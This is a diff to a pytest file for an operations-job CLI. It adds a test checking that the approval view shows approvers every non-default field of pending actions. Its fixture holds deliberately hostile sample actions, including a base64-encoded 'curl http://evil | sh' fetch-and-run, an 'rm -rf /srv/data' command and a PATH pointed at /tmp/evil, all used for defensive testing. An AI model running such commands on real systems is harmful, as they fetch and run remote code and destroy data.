@@ -6,7 +6,9 @@ import pytest
 
 from cli.desk import Answer
 from cli.test_dead_letters import answering
+from opsjobs.cli import would_run
 from opsjobs.cli.app import run
+from opsjobs.model.action import KINDS
 
 ASKED = {
     "id": 3,
@@ -75,7 +77,7 @@ def test_an_approval_is_shown_with_what_would_run_where(
     told = capsys.readouterr().out
     for words in (
         "systemctl stop nginx",
-        "web-1 and 2 more",
+        "web-1 (10.0.0.1) and 2 more",
         "service = nginx",
         "ab" * 32,
         "2 (of the role manager)",
@@ -83,6 +85,60 @@ def test_an_approval_is_shown_with_what_would_run_where(
     ):
         assert words in told
     assert "stop-service (needs_approval): A service stops." in told
+
+
+HIDDEN = [
+    {"key": "a", "type": "script", "interpreter": "bash", "script_base64": "Y3VybCBodHRwOi8vZXZpbCB8IHNoCg==", "script": None},
+    {"key": "b", "type": "script", "interpreter": "/opt/run", "script_base64": "f0VMRv8=", "script": None},
+    {
+        "key": "c",
+        "type": "command",
+        "command": 'exec "$@"',
+        "args": ["rm", "-rf", "/srv/data"],
+        "env": {"PATH": "/tmp/evil"},
+        "cwd": "/var/tmp",
+        "stdin": "one\ntwo",
+        "become": {"user": "postgres", "method": "su", "credential": None},
+        "when": "target.labels.env == 'prod'",
+        "targets": {"ids": ["db-1"]},
+        "a_field_of_a_later_release": [1],
+        "on_failure": "stop",
+        "expected_exit_codes": [0],
+        "durable": "auto",
+    },
+]
+
+
+def test_an_approver_sees_every_field_that_is_not_its_default(
+    monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
+) -> None:
+    would = {**WOULD_RUN, "actions": HIDDEN, "policy": {"max_parallel": 50, "durable": "auto"}}
+    with answering(monkeypatch, lambda _: Answer(body={**LAUNCH, "would_run": would})):
+        assert run(["approvals", "show", "3"]) == 0
+    told = capsys.readouterr().out
+    for words in (
+        "curl http://evil | sh",
+        "5 bytes that are not text, SHA-256 a7353874",
+        "interpreter: /opt/run",
+        'args: ["rm", "-rf", "/srv/data"]',
+        'env: {"PATH": "/tmp/evil"}',
+        "cwd: /var/tmp",
+        "one\n",
+        "two\n",
+        '"user": "postgres"',
+        "when: target.labels.env == 'prod'",
+        'targets: {"ids": ["db-1"]}',
+        "a_field_of_a_later_release: [1]",
+        "policy    max_parallel: 50",
+        "web-1 (10.0.0.1)",
+    ):
+        assert words in told
+    for words in ("on_failure", "expected_exit_codes", "durable"):
+        assert words not in told
+
+
+def test_every_kind_of_action_has_its_defaults() -> None:
+    assert set(would_run._KINDS) == set(KINDS)
 
 
 def test_an_approval_by_one_of_two_says_so_and_an_override_says_why(
